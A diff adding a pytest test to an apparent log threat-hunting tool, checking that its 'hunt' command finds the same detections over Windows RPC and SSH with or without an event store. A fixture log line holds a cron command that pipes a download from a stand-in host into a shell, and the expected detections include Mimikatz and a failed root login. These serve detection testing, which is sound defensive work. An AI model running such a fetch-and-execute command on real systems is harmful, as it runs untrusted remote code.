@@ -5,6 +5,7 @@ journald identifiers are read."""
 
 from __future__ import annotations
 
+import json
 import shutil
 import time
 from collections.abc import Iterator
@@ -12,6 +13,7 @@ from pathlib import Path
 
 import pytest
 
+from eventsweep import cli
 from eventsweep.detect import RuleSet, Wanted, load_rules
 from eventsweep.model import Query
 from eventsweep.sources import Settings
@@ -171,3 +173,46 @@ def test_a_hunt_over_ssh_and_the_journal(fleet: sshd.Fleet, tmp_path: Path) -> N
         ("(root) CMD (curl -s http://x.example/a | sh)", "Cron pipes a download into a shell"),
         ("Failed password for root from 10.0.0.1 port 4711 ssh2", "Failed password for root"),
     ]
+
+
+def test_the_hunt_command_over_win_rpc_and_ssh_with_and_without_a_store(
+    samba: Samba,
+    fleet: sshd.Fleet,
+    tmp_path: Path,
+    monkeypatch: pytest.MonkeyPatch,
+    capsys: pytest.CaptureFixture[str],
+) -> None:
+    """Without a store, a remote target's events are matched as its source yields them and
+    only detections are handed on (detect.matching); with one, every event is stored and the
+    output matches. The detections and the counts of events read are the same both ways."""
+    monkeypatch.setenv("EVENTSWEEP_PASSWORD", PASSWORD)
+    monkeypatch.delenv("EVENTSWEEP_NTHASH", raising=False)
+    folder = tmp_path / "rules"
+    folder.mkdir()
+    rules_of(folder, SERVICE_RULE, KEYWORD_RULE, SSHD_RULE, CRON_RULE)
+    targets = [samba.url("System"), fleet.target(ADDRESS)]
+    ssh = ["--known-hosts", str(fleet.known_hosts), "--ssh-config", str(fleet.ssh_config)]
+    found = {}
+    for store in ("--no-store", "--store"):
+        outcomes = tmp_path / f"outcomes{store}.jsonl"
+        argv = ["hunt", *targets, "--rules", str(folder), "--since", "100000d", "--format"]
+        argv += ["jsonl", "--outcomes", str(outcomes), *ssh]
+        if store == "--no-store":
+            argv.append(store)
+        assert cli.main(argv) == 0
+        lines = [json.loads(line) for line in capsys.readouterr().out.splitlines()]
+        detections = sorted((d["target"], d["message"], d["rule"]["title"]) for d in lines)
+        read = {
+            o["target"]: (o["status"], o["events"])
+            for o in map(json.loads, outcomes.read_text().splitlines())
+        }
+        found[store] = detections, read
+    assert found["--no-store"] == found["--store"]
+    detections, read = found["--store"]
+    assert [title for _, _, title in detections] == [
+        "Cron pipes a download into a shell",  # ssh://…
+        "Failed password for root",
+        "Service installed from a public folder",  # win://…
+        "Mimikatz named in the System log",
+    ]
+    assert read == {targets[0]: ("ok", 4), targets[1]: ("ok", 5)}  # "app" was not read
